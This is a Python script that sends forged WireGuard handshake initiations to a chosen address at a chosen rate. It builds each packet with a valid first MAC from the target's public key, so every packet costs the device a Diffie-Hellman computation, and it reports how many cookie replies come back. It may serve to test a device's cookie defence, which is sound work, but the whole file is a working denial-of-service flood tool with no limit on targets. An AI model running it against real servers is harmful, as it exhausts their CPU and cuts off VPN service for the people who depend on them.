#!/usr/bin/env python3
"""Handshakes that nobody can answer, to a WireGuard device.

    forge.py ADDRESS PORT PUBLIC_KEY PER_SECOND SECONDS

Initiations have the right length, and the first code is right for the receiver's public key, so that only a Diffie-Hellman exchange
tells them from those of a peer. Prints one JSON object: datagrams sent a second, and answers with a cookie.
"""

import base64
import hashlib
import json
import os
import socket
import struct
import sys
import time

INITIATION, COOKIE_REPLY = 1, 3
# Bytes of an initiation in front of its first code, and of a code.
BEFORE_CODES, CODE = 116, 16
# Different initiations; they are sent again and again.
DIFFERENT = 4096


def initiation(key):
    body = struct.pack("<II", INITIATION, int.from_bytes(os.urandom(4), "little")) + os.urandom(BEFORE_CODES - 8)
    return body + hashlib.blake2s(body, key=key, digest_size=CODE).digest() + bytes(CODE)


def main():
    address, port, public, per_second, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4]), float(sys.argv[5])
    key = hashlib.blake2s(b"mac1----" + base64.b64decode(public)).digest()
    forged = [initiation(key) for _ in range(DIFFERENT)]
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.connect((address, port))
    sender.setblocking(False)
    sent = cookies = 0
    start = time.monotonic()
    while (passed := time.monotonic() - start) < seconds:
        try:
            while sent < passed * per_second:
                sender.send(forged[sent % DIFFERENT])
                sent += 1
        except OSError:
            # No room, or an error that an earlier one has brought back.
            pass
        try:
            while True:
                cookies += sender.recv(200)[0] == COOKIE_REPLY
        except OSError:
            pass
        time.sleep(0.001)
    print(json.dumps({"per_second": sent / passed, "cookies_per_second": cookies / passed}))


if __name__ == "__main__":
    main()
